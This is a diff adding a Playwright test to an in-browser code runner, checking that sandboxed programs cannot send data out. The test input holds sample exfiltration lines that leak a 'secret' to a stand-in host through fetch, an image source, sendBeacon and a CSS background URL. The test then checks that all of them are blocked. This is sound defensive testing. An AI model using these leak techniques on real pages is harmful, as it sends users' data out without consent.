@@ -108,3 +108,24 @@ test('an endless loop is stopped with its line and the page stays responsive', a
   expect(error.message).toContain('endless loop');
   expect(await page.evaluate(() => 6 * 7)).toBe(42);
 });
+
+test('the program cannot send anything out: fetch, images, beacons and styles are blocked and named in the console', async ({page}) => {
+  const sent: string[] = [];
+  await page.route('http://beacon.test/**', (route) => {
+    sent.push(route.request().url());
+    return route.fulfill({status: 204, headers: {'Access-Control-Allow-Origin': '*'}});
+  });
+  await runInFrame(
+    page,
+    `fetch('http://beacon.test/fetch?secret=1').then(() => console.log('fetch sent'), () => console.log('fetch refused'));
+new Image().src = 'http://beacon.test/image?secret=1';
+navigator.sendBeacon('http://beacon.test/beacon', 'secret=1');
+document.body.style.backgroundImage = 'url(http://beacon.test/style?secret=1)';
+`,
+  );
+  await waitForRunnerMessage(page, 'console', (message) => message.text === 'fetch refused');
+  await expect
+    .poll(async () => (await runnerMessages(page)).filter((message) => message.type === 'console' && String(message.text).startsWith('The runner blocked http://beacon.test/')).length)
+    .toBeGreaterThanOrEqual(3);
+  expect(sent).toEqual([]);
+});
